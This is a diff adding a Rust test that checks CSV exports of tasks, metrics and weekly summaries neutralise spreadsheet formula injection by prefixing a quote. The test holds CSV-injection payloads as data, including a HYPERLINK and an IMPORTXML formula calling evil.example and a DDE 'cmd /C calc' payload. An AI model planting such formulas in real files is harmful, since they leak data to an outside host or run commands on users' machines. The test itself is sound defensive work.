@@ -323,3 +323,76 @@ fn a_task_due_outside_the_supported_years_is_refused() {
     }
     assert_eq!(snapshot(&ops), before);
 }
+
+/// Text a user typed that a spreadsheet would run as a formula: every CSV export writes it
+/// with a `'` in front (OWASP's CSV injection advice), and numbers stay numbers.
+#[test]
+fn csv_exports_run_no_formula_in_a_spreadsheet() {
+    let ops = ops();
+    let c = week_48(&ops);
+    let formulas = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+    ];
+    for (i, title) in formulas.iter().enumerate() {
+        manual(&ops, c, title, berlin(30, 12 + i as u32));
+    }
+    ops.record_metrics(
+        &alice(),
+        c,
+        &[with(NewMetric::new(MetricKind::Clicks, 3.0), |m| {
+            m.notes = Some("=IMPORTXML(\"https://evil.example\",\"//a\")".into())
+        })],
+    )
+    .unwrap();
+
+    let tasks = ops.export_tasks(c, ExportFormat::Csv).unwrap();
+    let titles: Vec<String> = column(&tasks, "title");
+    for title in formulas {
+        assert!(
+            titles.contains(&format!("'{title}")),
+            "{title} in {titles:?}"
+        );
+    }
+    let notes = column(&ops.export_metrics(c, ExportFormat::Csv).unwrap(), "notes");
+    assert!(notes.contains(&"'=IMPORTXML(\"https://evil.example\",\"//a\")".to_owned()));
+    let (w47, w49): (ReportWeek, ReportWeek) =
+        ("2026-W47".parse().unwrap(), "2026-W49".parse().unwrap());
+    for csv_text in [
+        tasks,
+        ops.export_metrics(c, ExportFormat::Csv).unwrap(),
+        ops.export_weekly_summaries(c, w47, w49, ExportFormat::Csv)
+            .unwrap(),
+    ] {
+        for record in csv::Reader::from_reader(csv_text.as_bytes()).records() {
+            for cell in record.unwrap().iter() {
+                let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(
+                    !runs || cell.parse::<f64>().is_ok(),
+                    "a spreadsheet would run {cell:?}"
+                );
+            }
+        }
+    }
+    // The JSON export is the lossless form: the titles as typed.
+    let json = ops.export_tasks(c, ExportFormat::Json).unwrap();
+    let back: Vec<OperatorTask> = serde_json::from_str(&json).unwrap();
+    assert!(back.iter().any(|t| t.title == formulas[0]));
+}
+
+/// The cells of column `name` of a CSV text.
+fn column(csv_text: &str, name: &str) -> Vec<String> {
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let col = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == name)
+        .unwrap();
+    reader
+        .records()
+        .map(|r| r.unwrap()[col].to_owned())
+        .collect()
+}
